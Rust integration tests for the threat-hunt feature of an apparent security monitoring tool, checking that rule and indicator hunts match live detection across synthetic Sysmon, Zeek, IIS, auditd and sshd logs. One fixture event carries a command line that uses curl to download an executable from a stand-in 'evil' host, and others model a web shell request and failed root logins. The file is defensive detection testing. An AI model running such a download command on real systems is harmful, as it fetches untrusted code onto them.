//! Hunts: what they find is what detection finds, and they go on where they stopped.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use khien_app::App;
use khien_app::access::Caller;
use khien_app::pipeline::Meta;
use khien_app::use_case::UseError;
use khien_app::use_case::hunts::{self, Change, Hunt, NewHunt, Prey, RuleFile};
use khien_domain::ids::{JobId, SourceId};
use khien_domain::job::JobState;
use khien_domain::page::PageRequest;
use khien_lake::{Cancel, Column, Request, Scope, Shown, query};
use serde_json::Value;

use khien_testkit::{Hands, RULES, sysmon};

use crate::support::{register, send, send_as, start, until};

fn by_rules(text: &str) -> NewHunt {
    let file = RuleFile { name: "rules.yml".into(), text: text.into() };
    let prey = Prey::Rules { files: vec![file], placeholders: BTreeMap::new() };
    NewHunt { prey, from: None, to: None, agencies: BTreeSet::new() }
}

fn by_list(text: &str) -> NewHunt {
    let prey = Prey::Indicators { name: "list".into(), text: text.into() };
    NewHunt { prey, ..by_rules("") }
}

async fn begun(app: &App, new: NewHunt) -> JobId {
    hunts::start_hunt(app, &Caller::program(), new).await.unwrap().job.id
}

async fn get(app: &App, id: JobId) -> Hunt {
    hunts::get_hunt(app, &Caller::program(), id).await.unwrap()
}

async fn ended(app: &App, id: JobId) -> Hunt {
    until("the end of the hunt", async || get(app, id).await.job.ended_at.is_some()).await;
    get(app, id).await
}

async fn hits(app: &App, id: JobId) -> Vec<Value> {
    let (mut hits, mut page) = (Vec::new(), PageRequest::first());
    loop {
        let found = hunts::list_hits(app, &Caller::program(), id, &page).await.unwrap();
        hits.extend(
            found.items.iter().map(|row| serde_json::from_str::<Value>(&row.payload).unwrap()),
        );
        let Some(next) = found.next else { return hits };
        page.after = Some(next);
    }
}

async fn searchable(app: &App, count: u64) {
    let request =
        || Request { query: query::parse("").unwrap(), scope: Scope::All, from: None, to: None };
    until("searchable", async || {
        app.lake().count(&request(), &Cancel::new()).unwrap().found >= count
    })
    .await;
}

/// The events that a rule matched when they came, as batch and place.
fn detected(app: &App) -> BTreeSet<(String, String)> {
    let request = Request {
        query: query::parse("rules:*").unwrap(),
        scope: Scope::All,
        from: None,
        to: None,
    };
    let shown = [Shown::Column(Column::Rules)];
    let (mut found, mut after) = (BTreeSet::new(), None);
    loop {
        let page = app.lake().search(&request, &shown, 1000, after, &Cancel::new()).unwrap().found;
        for event in page.events {
            let at = format!("{}-{}", event.at.batch, event.at.item);
            let rules = event.values[0].to_string();
            found.extend(rules.split(' ').map(|rule| (at.clone(), rule.to_owned())));
        }
        after = page.next;
        if after.is_none() {
            return found;
        }
    }
}

fn told(hits: &[Value]) -> BTreeSet<(String, String)> {
    let text = |hit: &Value, pointer: &str| {
        hit.pointer(pointer).and_then(Value::as_str).unwrap_or_default().to_owned()
    };
    let of_rules = hits.iter().filter(|hit| hit.get("correlation").is_none());
    of_rules.map(|hit| (text(hit, "/event"), text(hit, "/rule/id"))).collect()
}

async fn whoami(app: &App, source: SourceId, times: &[&str]) {
    for time in times {
        let payload = sysmon("PC1", "C:\\Windows\\whoami.exe", time);
        send(app, source, &payload, None).await.unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hunt_finds_what_detection_found_with_its_reasons_and_correlations() {
    let place = tempfile::tempdir().unwrap();
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app = start(&place.path().join("data"), &clock).await;
    let source = register(&app).await;
    whoami(
        &app,
        source,
        &["2026-10-15 00:59:58.000", "2026-10-15 00:56:00.000", "2026-10-15 00:58:00.000"],
    )
    .await;
    let other = sysmon("PC2", "C:\\Windows\\notepad.exe", "2026-10-15 00:59:00.000");
    send(&app, source, &other, None).await.unwrap();
    searchable(&app, 4).await;
    let hunt = ended(&app, begun(&app, by_rules(RULES)).await).await;
    assert_eq!((hunt.job.state, hunt.found.events, hunt.found.hits), (JobState::Finished, 4, 4));
    assert_eq!((hunt.found.unread, hunt.asked.count), (0, 2));
    let hits = hits(&app, hunt.job.id).await;
    assert_eq!(told(&hits), detected(&app));
    let times: Vec<&str> = hits.iter().map(|hit| hit["time"].as_str().unwrap()).collect();
    let last = "2026-10-15T00:59:58Z";
    assert_eq!(times, ["2026-10-15T00:56:00Z", "2026-10-15T00:58:00Z", last, last]);
    assert_eq!(hits[0]["matched"][0]["value"], "C:\\Windows\\whoami.exe");
    assert_eq!((&hits[0]["host"], &hits[0]["user"]), (&"pc1".into(), &"minhhoa\\an".into()));
    let joined = &hits[3];
    assert_eq!(joined["rule"]["title"], "Many whoami");
    assert_eq!((&joined["correlation"]["count"], &joined["host"]), (&3.into(), &"pc1".into()));
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_paused_hunt_goes_on_after_a_restart_and_finds_everything_once() {
    let place = tempfile::tempdir().unwrap();
    let path = place.path().join("data");
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app = start(&path, &clock).await;
    let source = register(&app).await;
    // Three days, so that there are places to stop at.
    for day in 12..15 {
        let lines: String = (0..3000)
            .map(|number| {
                let time =
                    format!("2026-10-{day} 00:{:02}:{:02}.000", number / 60 % 60, number % 60);
                sysmon("PC1", "C:\\Windows\\whoami.exe", &time)
            })
            .collect();
        send(&app, source, &lines, None).await.unwrap();
    }
    searchable(&app, 9000).await;
    let id = begun(&app, by_rules(RULES)).await;
    let caller = Caller::program();
    // Wherever it is just now: waiting, under way, or ended already.
    for _ in 0..3 {
        tokio::time::sleep(Duration::from_millis(200)).await;
        match hunts::change_hunt(&app, &caller, id, Change::Pause).await {
            Ok(paused) => {
                assert_eq!(paused.job.state, JobState::Paused);
                tokio::time::sleep(Duration::from_millis(100)).await;
                assert_eq!(get(&app, id).await.job.state, JobState::Paused);
                hunts::change_hunt(&app, &caller, id, Change::Resume).await.unwrap();
            }
            Err(UseError::Conflict(_)) => break,
            Err(error) => panic!("{error}"),
        }
    }
    app.stop().await;
    drop(app);
    let app = start(&path, &clock).await;
    let hunt = ended(&app, id).await;
    assert_eq!((hunt.job.state, hunt.found.events), (JobState::Finished, 9000));
    let found = hits(&app, id).await;
    let single = found.iter().filter(|hit| hit.get("correlation").is_none()).count();
    assert_eq!((single, told(&found).len()), (9000, 9000), "each once");
    assert_eq!(found.len() - single, 3000, "three of them make one");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cancelled_hunt_ends_and_stays_so() {
    let place = tempfile::tempdir().unwrap();
    let path = place.path().join("data");
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app = start(&path, &clock).await;
    register(&app).await;
    let id = begun(&app, by_rules(RULES)).await;
    let caller = Caller::program();
    let cancelled = hunts::change_hunt(&app, &caller, id, Change::Cancel).await;
    if let Ok(cancelled) = cancelled {
        assert_eq!(cancelled.job.state, JobState::Cancelled);
        let again = hunts::change_hunt(&app, &caller, id, Change::Resume).await;
        assert!(matches!(again, Err(UseError::Conflict(_))));
        app.stop().await;
        drop(app);
        let app = start(&path, &clock).await;
        tokio::time::sleep(Duration::from_millis(1200)).await;
        assert_eq!(get(&app, id).await.job.state, JobState::Cancelled);
        app.stop().await;
    } else {
        assert_eq!(get(&app, id).await.job.state, JobState::Finished, "it was faster");
        app.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn indicators_are_found_in_columns_and_in_texts() {
    let place = tempfile::tempdir().unwrap();
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app = start(&place.path().join("data"), &clock).await;
    let source = register(&app).await;
    let connection = |address: &str, line: &str| {
        let event = serde_json::json!({
            "EventID": 3,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "PC1",
            "UtcTime": "2026-10-15 00:59:58.000",
            "User": "MINHHOA\\an",
            "SourceIp": "192.0.2.1",
            "DestinationIp": address,
            "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF",
            "CommandLine": line,
        });
        event.to_string() + "\n"
    };
    let lines = connection("198.51.100.7", "a")
        + &connection("203.0.113.9", "curl hxxp")
        + &connection("2001:db8::1", "curl https://www.Evil.example/a/b -o C:\\Temp\\X.exe")
        + &connection("192.0.2.9", "curl notevil.example");
    send(&app, source, &lines, None).await.unwrap();
    searchable(&app, 4).await;
    let find = async |list: &str| {
        let hunt = ended(&app, begun(&app, by_list(list)).await).await;
        assert_eq!((hunt.job.state, hunt.found.events), (JobState::Finished, 4), "{list}");
        let hits = hits(&app, hunt.job.id).await;
        let text = |hit: &Value| {
            let field = hit["matched"][0]["field"].as_str().unwrap();
            format!("{} {field}", hit["event"].as_str().unwrap())
        };
        hits.iter().map(text).collect::<Vec<_>>()
    };
    assert_eq!(find("198.51.100[.]7\n203.0.113.0/24\n").await, ["1-0 dst_ip", "1-1 dst_ip"]);
    assert_eq!(find("198.51.100.8\n").await, [""; 0]);
    assert_eq!(find("2001:DB8:0::1\n").await, ["1-2 dst_ip"]);
    assert_eq!(find("0123456789abcdef0123456789abcdef\n").await.len(), 4);
    assert_eq!(find("type,value\nuser,An\n").await.len(), 4);
    assert_eq!(find("type,value\nuser,A\n").await.len(), 0);
    for list in ["evil[.]example", "hxxps://www.evil.example/a", "x.exe", "c:\\temp\\x.exe"] {
        assert_eq!(find(list).await, ["1-2 raw"], "{list}");
    }
    let both = find("evil.example\n198.51.100.7\n").await;
    assert_eq!(both, ["1-0 dst_ip", "1-2 raw"]);
    app.stop().await;
}

/// Files of public attacks, sent as they are: a hunt by the rules in force finds again what was found
/// when they came.
#[tokio::test(flavor = "multi_thread")]
async fn evtx_files_give_the_same_hits_as_when_they_came() {
    let Some(shared) = khien_testkit::public_data("evtx") else { return };
    let folders = ["Execution", "Credential Access"].map(|name| shared.join(name));
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules");
    let mut text = String::new();
    gather(&rules, &mut text);
    let place = tempfile::tempdir().unwrap();
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let path = place.path().join("data");
    let app = crate::support::start_with(&path, &clock, &text).await;
    let source = register(&app).await;
    let inside = folders.iter().flat_map(|folder| std::fs::read_dir(folder).unwrap());
    let mut files: Vec<_> = inside.map(|file| file.unwrap().path()).collect();
    files.sort();
    files.retain(|file| file.extension().is_some_and(|kind| kind == "evtx"));
    assert!(files.len() > 5);
    for file in &files {
        let payload = std::fs::read(file).unwrap();
        let meta = Meta { format: Some("evtx".into()), ..Meta::default() };
        crate::support::send_bytes(&app, source, payload, meta, None).await.unwrap();
    }
    let count = files.len() as u64;
    until("judged", async || {
        let level = app.journal_level();
        app.figures().counted().batches == count && level.working == 0 && level.waiting_bytes == 0
    })
    .await;
    let events = app.figures().counted().events;
    searchable(&app, events).await;
    for flushed in [false, true] {
        if flushed {
            app.lake().flush().unwrap();
        }
        let hunt = ended(&app, begun(&app, by_rules(&text)).await).await;
        assert_eq!((hunt.job.state, hunt.found.unread), (JobState::Finished, 0));
        assert_eq!(hunt.found.events, events);
        let found = told(&hits(&app, hunt.job.id).await);
        assert!(found.len() > 10, "{}", found.len());
        assert_eq!(found, detected(&app));
    }
    app.stop().await;
}

/// All rules of a folder as one text.
fn gather(folder: &Path, text: &mut String) {
    let mut paths: Vec<_> =
        std::fs::read_dir(folder).unwrap().map(|one| one.unwrap().path()).collect();
    paths.sort();
    for path in paths {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let is_yaml = path.extension().is_some_and(|kind| kind == "yml");
        if path.is_dir() {
            gather(&path, text);
        } else if is_yaml && !name.ends_with(".samples.yml") {
            text.push_str("---\n");
            text.push_str(&std::fs::read_to_string(&path).unwrap());
            text.push('\n');
        }
    }
}

/// Formats whose entries need what stands before them are judged again as well.
#[tokio::test(flavor = "multi_thread")]
async fn tables_and_joined_lines_are_read_again() {
    const TEXT: &str = "
title: Zeek
id: 44444444-4444-4444-8444-444444444444
logsource: {product: zeek, service: dns}
detection: {s: {query|endswith: '.example'}, condition: s}
---
title: IIS
id: 55555555-5555-4555-8555-555555555555
logsource: {category: webserver}
detection: {s: {cs-uri-stem|contains: 'shell'}, condition: s}
---
title: Audit
id: 66666666-6666-4666-8666-666666666666
logsource: {product: linux, service: auditd}
detection: {s: {type: EXECVE, a0: whoami}, condition: s}
---
title: Login
id: 77777777-7777-4777-8777-777777777777
logsource: {product: linux, service: sshd}
detection: {k: ['Failed password'], condition: k}
";
    let place = tempfile::tempdir().unwrap();
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app = crate::support::start_with(&place.path().join("data"), &clock, TEXT).await;
    let source = register(&app).await;
    let zeek = "#separator \\x09\n#path\tdns\n#fields\tts\tuid\tquery\n#types\ttime\tstring\tstring\n\
        1760490000.000000\tC1\ta.example\n1760490001.000000\tC2\ta.test\n";
    let iis = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n\
        #Date: 2026-10-15 00:00:00\n\
        #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip sc-status sc-substatus sc-win32-status\n\
        2026-10-15 00:00:01 192.0.2.1 GET /shell.aspx - 443 - 198.51.100.7 200 0 0\n\
        2026-10-15 00:00:02 192.0.2.1 GET /index.aspx - 443 - 198.51.100.7 200 0 0\n";
    let audit = "type=SYSCALL msg=audit(1760490000.100:7): arch=c000003e syscall=59 success=yes exit=0 comm=\"whoami\" exe=\"/usr/bin/whoami\"\n\
        type=EXECVE msg=audit(1760490000.100:7): argc=1 a0=\"whoami\"\n";
    let sshd = "Oct 15 00:59:58 may-1 sshd[77]: Failed password for root from 198.51.100.7 port 40000 ssh2\n";
    for (format, payload) in [("zeek", zeek), ("w3c", iis), ("auditd", audit), ("syslog", sshd)] {
        let meta = Meta { format: Some(format.into()), ..Meta::default() };
        send_as(&app, source, payload, meta, None).await.unwrap();
    }
    searchable(&app, 6).await;
    let hunt = ended(&app, begun(&app, by_rules(TEXT)).await).await;
    assert_eq!((hunt.found.unread, hunt.found.events), (0, 6));
    let found = told(&hits(&app, hunt.job.id).await);
    assert_eq!(found, detected(&app));
    assert_eq!(found.len(), 4, "{found:?}");
    app.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hunt_looks_at_its_time_only_and_is_forgotten_when_it_is_old() {
    let place = tempfile::tempdir().unwrap();
    let clock = Hands::at("2026-10-15T01:00:00Z");
    let app: Arc<App> = start(&place.path().join("data"), &clock).await;
    let source = register(&app).await;
    whoami(
        &app,
        source,
        &["2026-10-13 00:00:00.000", "2026-10-14 00:00:00.000", "2026-10-15 00:00:00.000"],
    )
    .await;
    searchable(&app, 3).await;
    app.lake().flush().unwrap();
    let moment = |text: &str| Some(text.parse().unwrap());
    let new = NewHunt {
        from: moment("2026-10-14T00:00:00Z"),
        to: moment("2026-10-15T00:00:00Z"),
        ..by_rules(RULES)
    };
    let id = begun(&app, new).await;
    let hunt = ended(&app, id).await;
    assert_eq!((hunt.found.events, hunt.found.hits), (1, 1));
    clock.forward(91 * 24 * 3600);
    until("forgotten", async || {
        matches!(
            hunts::get_hunt(&app, &Caller::program(), id).await,
            Err(UseError::NotFound { .. })
        )
    })
    .await;
    app.stop().await;
}
